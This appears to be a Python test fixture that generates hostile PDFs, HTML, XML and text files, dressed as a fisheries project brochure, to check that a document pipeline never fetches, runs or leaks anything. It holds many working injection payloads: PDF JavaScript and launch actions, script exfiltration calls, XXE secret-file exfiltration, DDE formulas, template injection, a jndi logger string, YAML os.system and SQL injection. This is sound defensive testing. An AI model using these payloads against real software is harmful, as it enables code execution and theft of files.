"""Brochures that would have their reader fetch, run, open or tell something: each is a good one besides.

What they ask for is bait (``bait.py``), so that it is seen if anybody gives in.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

from tests.hostile import objects as made
from tests.hostile.bait import Bait


class Lure(NamedTuple):
    """A brochure: its path below the input folder, and its bytes."""

    name: str
    data: bytes


def lures(bait: Bait) -> Iterator[Lure]:
    """All of them."""
    for name, action in ACTIONS.items():
        yield Lure(f"pdf/opened-{name}.pdf", _pdf(bait, catalogue=f"/OpenAction {action}"))
        yield Lure(f"pdf/page-{name}.pdf", _pdf(bait, page=f"/AA << /O {action} /C {action} >>"))
        link = f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A {action} /AA << /PO {action} /E {action} >> >>]"
        yield Lure(f"pdf/link-{name}.pdf", _pdf(bait, page=link))
        yield Lure(f"pdf/field-{name}.pdf", _pdf(bait, **_field(action)))
    for name, parts in CATALOGUES.items():
        yield Lure(f"pdf/{name}.pdf", _pdf(bait, catalogue=parts))
    for name, (page, resources, objects) in PAGES.items():
        yield Lure(f"pdf/{name}.pdf", _pdf(bait, page=page, resources=resources, objects=objects))
    for name, (head, body) in HTML.items():
        yield Lure(f"html/{name}.html", _html(bait, head, body))
    for name, document in XML.items():
        data = _filled(document, bait).encode()
        for ending in ("xhtml", "html", "xml", "txt"):
            yield Lure(f"xml/{name}-as.{ending}", data)
    for name, line in TEXT.items():
        yield Lure(f"text/{name}.txt", _filled(f"{line}\n\n{_TOLD}Summary: {line}\n", bait).encode())
        yield Lure(f"text/{name}.md", _filled(f"# {line}\n\n{_TOLD}{line}\n", bait).encode())


def _filled(text: str, bait: Bait) -> str:
    """A text with the places of the bait in it: ``{U:name}`` an address, ``{F:name}`` a file's, ``{P:name}`` its path."""
    for mark, place in (("U", bait.url), ("F", bait.file), ("P", lambda name: str(bait.folder / name))):
        while (at := text.find("{" + mark + ":")) >= 0:
            end = text.index("}", at)
            text = text[:at] + place(text[at + 3 : end]) + text[end + 1 :]
    return text


def _pdf(
    bait: Bait, catalogue: str = "", page: str = "", resources: str = "", objects: tuple[tuple[str, str], ...] = ()
) -> bytes:
    """A brochure of one page with these entries, and these objects from 6 on: a dictionary, and a stream if there is one."""
    more = [
        made.stream(_filled(data, bait).encode(), _filled(entries, bait).encode())
        if data
        else f"<< {_filled(entries, bait)} >>".encode()
        for entries, data in objects
    ]
    data = made.one_page(
        None, *more, resources=_filled(resources, bait).encode(), page_more=_filled(page, bait).encode()
    )
    return data.replace(b"/Type /Catalog", b"/Type /Catalog " + _filled(catalogue, bait).encode())


def _field(action: str) -> dict[str, object]:
    """A form whose field acts whenever it is shown, filled in, formatted, checked or reckoned."""
    events = " ".join(
        f"/{event} {action}" for event in ["K", "F", "V", "C", "E", "X", "D", "U", "Fo", "Bl", "PO", "PV"]
    )
    field = f"/Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (x) /Rect [0 0 9 9] /AA << {events} >>"
    return {
        "catalogue": "/AcroForm << /Fields [6 0 R] /CO [6 0 R] /NeedAppearances true >>",
        "page": "/Annots [6 0 R]",
        "objects": ((field, ""),),
    }


_SCRIPT = (
    "app.launchURL\\('{U:js}', true\\); this.submitForm\\('{U:form}'\\); util.readFileIntoStream\\('{P:secret.txt}'\\);"
)

#: What a PDF can have done by whoever shows it (PDF 2.0, 12.6.4).
ACTIONS = {
    "javascript": f"<< /S /JavaScript /JS ({_SCRIPT}) >>",
    "link": "<< /S /URI /URI ({U:link}) >>",
    "file-link": "<< /S /URI /URI ({F:secret.txt}) >>",
    "launch": "<< /S /Launch /F ({P:program.sh}) /Unix << /F ({P:program.sh}) >> /Win << /F (cmd.exe) /P (/c {P:program.sh}) >> >>",
    "other-file": "<< /S /GoToR /F ({P:evil.pdf}) /D [0 /Fit] >>",
    "file-from-network": "<< /S /GoToR /F << /Type /Filespec /FS /URL /F ({U:evil.pdf}) >> /D [0 /Fit] >>",
    "submit": "<< /S /SubmitForm /F << /FS /URL /F ({U:submit}) >> /Flags 4 >>",
    "import": "<< /S /ImportData /F ({P:evil.xml}) >>",
    "thread": "<< /S /Thread /F ({P:evil.pdf}) /D 0 >>",
    "sound": "<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F ({U:sound}) >> >> >> >>",
    "chain": "<< /S /Named /N /Print /Next << /S /Launch /F ({P:program.sh}) >> >>",
}

#: What stands in a PDF's catalogue.
CATALOGUES = {
    "names-javascript": f"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ({_SCRIPT}) >>] >> >>",
    "base": "/URI << /Base ({U:base/}) >>",
    "saved": f"/AA << /WC << /S /JavaScript /JS ({_SCRIPT}) >> /WP << /S /Launch /F ({{P:program.sh}}) >> >>",
    "outline": "/Outlines << /First << /Title (a) /A << /S /Launch /F ({P:program.sh}) >> >> >>",
    "captured": "/SpiderInfo << /V 1.0 /C [<< /URL ({U:spider}) >>] >>",
    "rights": "/Extensions << /ADBE << /URL ({U:rights}) >> >>",
}

_XFA = (
    '<!DOCTYPE x [<!ENTITY a SYSTEM "{F:secret.txt}"><!ENTITY % b SYSTEM "{U:xfa.dtd}"> %b;]>'
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
    "<script contentType='application/x-javascript'>xfa.host.gotoURL('{U:xfa}')</script></event>&a;</subform></template></xdp:xdp>"
)
_META = '<!DOCTYPE x [<!ENTITY a SYSTEM "{F:secret.txt}">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&a;</x:xmpmeta>'

#: What stands on a PDF's page or below it: entries of the page, of its resources, objects.
PAGES: dict[str, tuple[str, str, tuple[tuple[str, str], ...]]] = {
    "picture-from-network": (
        "",
        "/XObject << /X 6 0 R >>",
        (("/Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F ({U:picture}) >>", " "),),
    ),
    "picture-from-file": (
        "",
        "/XObject << /X 6 0 R >>",
        (("/Type /XObject /Subtype /Image /Width 1 /Height 1 /F ({P:evil.png})", " "),),
    ),
    "page-of-another-file": (
        "",
        "/XObject << /X 6 0 R >>",
        (("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ({P:evil.pdf}) /Page 0 >>", " "),),
    ),
    "font-from-file": (
        "",
        "/ProcSet 6 0 R",
        (
            ("/Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor 7 0 R", ""),
            ("/Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 8 0 R", ""),
            ("/F ({P:secret.txt})", " "),
        ),
    ),
    "text-from-file": ("/B 6 0 R", "", (("/F ({P:secret.txt})", " "),)),
    "attached": (
        "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F ({P:program.sh}) /EF << /F 6 0 R >> >> >>]",
        "",
        (("/Type /EmbeddedFile", "#!/bin/sh\ntouch '{P:ran}'\n"),),
    ),
    "film": (
        "/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /A true /Movie << /F << /FS /URL /F ({U:film}) >> >> >>]",
        "",
        (),
    ),
    "form-of-xml": ("/AF 6 0 R", "", (("/Type /XFA", _XFA),)),
    "metadata": ("/Metadata 6 0 R", "", (("/Type /Metadata /Subtype /XML", _META),)),
    "printer": ("/OPI << /2.0 << /Type /OPI /Version 2.0 /F ({P:evil.png}) >> >>", "", ()),
}

_TOLD = "Country: Kenya\nBudget: US$ 1,000\nDonor: Norway\nDuration: 2009 - 2011\n"
_FACTS = "<h1>Safe Harbours for Coastal Fishers</h1>" + "".join(f"<p>{line}</p>" for line in _TOLD.splitlines())


def _html(bait: Bait, head: str, body: str) -> bytes:
    page = f"<!DOCTYPE html><html><head><title>Safe Harbours</title>{head}</head><body>{_FACTS}{body}</body></html>"
    return _filled(page, bait).encode()


_STEAL = (
    "fetch('{U:fetch}');new XMLHttpRequest().open('GET','{U:xhr}',false);document.write('<img src={U:written}>');"
    "new WebSocket('{U:socket}');navigator.sendBeacon('{U:beacon}');import('{U:evil.js}');window.open('{U:opened}');"
    "require('child_process').exec('{P:program.sh}')"
)

#: Web pages: what stands in the head, and in the body.
HTML = {
    "script": (f"<script>{_STEAL}</script>", f"<script>{_STEAL}</script>"),
    "script-from-network": ("<script src='{U:evil.js}'></script>", "<script type=module src='{F:evil.js}'></script>"),
    "events": ("", f'<body onload="{_STEAL}"><p onclick="{_STEAL}" onfocus="{_STEAL}" autofocus tabindex=1>x</p>'),
    "script-address": ("", f'<a href="javascript:{_STEAL}">x</a><iframe src="javascript:{_STEAL}"></iframe>'),
    "pictures": ("", "<img src='{U:evil.png}' srcset='{U:a.png} 2x'><img src='{F:evil.png}'><input type=image src='{U:b.png}'>"),
    "picture-with-script": ("", f"<img src=x onerror=\"{_STEAL}\"><picture><source srcset='{{U:c.png}}'><img src='{{U:d.png}}'></picture>"),
    "frames": ("", "<iframe src='{U:frame}'></iframe><iframe src='{F:secret.txt}'></iframe><iframe srcdoc='<img src={U:srcdoc}>'></iframe>"),
    "style-from-network": ("<link rel=stylesheet href='{U:evil.css}'><style>@import '{U:more.css}';</style>", ""),
    "style-from-file": ("<link rel=stylesheet href='{F:evil.css}'><style>@import url({F:evil.css})</style>", ""),
    "style-with-addresses": (
        "<style>@font-face{font-family:a;src:url({U:font})}body{background:url({U:back});behavior:url({U:htc})}</style>",
        "<p style='background:url({U:inline})'>x</p>",
    ),
    "refresh": ("<meta http-equiv=refresh content='0;url={U:refresh}'>", ""),
    "refresh-to-file": ("<meta http-equiv=refresh content='0;url={F:secret.txt}'>", ""),
    "base": ("<base href='{U:base/}'>", "<img src=a.png><a href=b.html>x</a>"),
    "base-of-files": ("<base href='{F:}'>", "<img src=evil.png><a href=secret.txt>x</a>"),
    "fetched-ahead": (
        "<link rel=preload as=script href='{U:pre}'><link rel=prefetch href='{U:fetched}'><link rel=preconnect href='{U:}'>"
        "<link rel=dns-prefetch href='//evil.example'><link rel=icon href='{U:icon}'><link rel=manifest href='{U:manifest}'>",
        "",
    ),
    "imported": ("<link rel=import href='{U:import.html}'><link rel=canonical href='{U:canonical}'>", ""),
    "objects": ("", "<object data='{U:object}'></object><embed src='{F:evil.pdf}'><applet code=A archive='{U:jar}'></applet>"),
    "media": ("", "<video src='{U:film}' poster='{U:poster}' autoplay></video><audio src='{F:evil.xml}'></audio><track src='{U:track}'>"),
    "drawing": (
        "",
        "<svg onload=\"fetch('{U:svg}')\"><image href='{U:image}'/><use href='{F:evil.xml}#a'/><script href='{U:evil.js}'/></svg>",
    ),
    "form": ("", "<form action='{U:form}' method=post><input autofocus onfocus=submit()><button formaction='{U:button}'>x</button></form>"),
    "ping": ("", "<a href='{F:secret.txt}' ping='{U:ping}' download>x</a><area href='{U:area}'>"),
    "backgrounds": ("", "<table background='{U:table}'><tr><td background='{F:evil.png}'>x</table>"),
    "server-side": ("", "<!--#exec cmd='{P:program.sh}'--><!--#include file='{P:secret.txt}'--><?php system('{P:program.sh}') ?><% system %>"),
    "old-browsers": ("<!--[if IE]><script src='{U:evil.js}'></script><![endif]-->", "<bgsound src='{U:sound}'><layer src='{U:layer}'>"),
    "included": ("", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{F:secret.txt}' parse='text'/>"),
    "entities": ("", "&outside; %outside; &#x26;outside;"),
}  # fmt: skip

_PAGE = f"<body>{_FACTS}%s</body></html>"
_DECLARED = '<?xml version="1.0" encoding="utf-8"?>'

#: XML that calls itself a web page.
XML = {
    "entity-of-file": f'{_DECLARED}<!DOCTYPE html [<!ENTITY a SYSTEM "{{F:secret.txt}}">]><html>{_PAGE % "<p>&a;</p>"}',
    "entity-from-network": f'{_DECLARED}<!DOCTYPE html [<!ENTITY a SYSTEM "{{U:entity}}">]><html>{_PAGE % "<p>&a;</p>"}',
    "entity-of-device": f'{_DECLARED}<!DOCTYPE html [<!ENTITY a SYSTEM "file:///dev/zero">]><html>{_PAGE % "<p>&a;</p>"}',
    "parameter": (
        f'{_DECLARED}<!DOCTYPE html [<!ENTITY % f SYSTEM "{{F:evil.dtd}}"> %f; <!ENTITY % n SYSTEM "{{U:n.dtd}}"> %n;]>'
        f"<html>{_PAGE % '<p>&outside;</p>'}"
    ),
    "told-on": (
        f'{_DECLARED}<!DOCTYPE html [<!ENTITY % f SYSTEM "{{F:secret.txt}}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
        f"'{{U:told}}?%f;'>\"> %e; %s;]><html>{_PAGE % ''}"
    ),
    "type-of-file": f'{_DECLARED}<!DOCTYPE html SYSTEM "{{F:evil.dtd}}"><html>{_PAGE % "<p>&outside;</p>"}',
    "type-from-network": f'{_DECLARED}<!DOCTYPE html PUBLIC "-//X//Y" "{{U:type.dtd}}"><html>{_PAGE % ""}',
    "included": (
        f'{_DECLARED}<html xmlns:xi="http://www.w3.org/2001/XInclude">'
        + _PAGE % '<xi:include href="{F:secret.txt}" parse="text"/><xi:include href="{U:include}"/>'
    ),
    "styled": f'{_DECLARED}<?xml-stylesheet type="text/xsl" href="{{F:evil.xsl}}"?><?xml-stylesheet href="{{U:xsl}}"?><html>{_PAGE % ""}',
    "schema": (
        f'{_DECLARED}<html xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:noNamespaceSchemaLocation="{{F:evil.xml}}" xml:base="{{U:xml/}}">{_PAGE % ""}'
    ),
}  # fmt: skip

#: Texts that some program or other would run, open or fetch: spreadsheets, templates, loggers, page makers.
TEXT = {
    "formula": '=WEBSERVICE("{U:formula}")',
    "formula-dde": "=cmd|'/C {P:program.sh}'!A1",
    "formula-link": '=HYPERLINK("{U:hyper}", "Safe Harbours")',
    "template": "{{ cycler.__init__.__globals__.os.popen('{P:program.sh}').read() }} Safe Harbours",
    "template-block": "{% include '{P:secret.txt}' %} Safe Harbours",
    "logger": "${jndi:ldap://127.0.0.1/a} Safe Harbours",
    "shell": "$({P:program.sh}) `{P:program.sh}` ; {P:program.sh} | sh",
    "yaml": "!!python/object/apply:os.system ['{P:program.sh}']",
    "markdown": "![Safe]({U:md.png}) [Harbours]({F:secret.txt}) <img src='{U:raw.png}'>",
    "tex": "\\input{{P:secret.txt}} \\write18{{P:program.sh}} Safe Harbours",
    "address": "{U:title.png} Safe Harbours",
    "file-address": "{F:secret.txt}",
    "path": "../../{P:secret.txt}",
    "chart": '{"url": "{U:data.json}", "$schema": "{U:schema.json}"} Safe Harbours',
    "query": "x'); COPY projects TO '{P:ran}'; INSTALL httpfs; --",
}

#: A manifest whose rows name files outside the folder, and would be run.
_MANIFEST = (
    "file,publisher,published,source\n../bait/secret.txt,A,2009,x\n{P:secret.txt},B,2009,x\n{U:manifest.pdf},C,2009,x\n"
    "text/formula.txt,\"=cmd|'/C {P:program.sh}'!A1\",2009,{U:source}\n"
)


def manifest(bait: Bait) -> bytes:
    """A manifest whose rows name files outside the folder, and would be run."""
    return _filled(_MANIFEST, bait).encode()
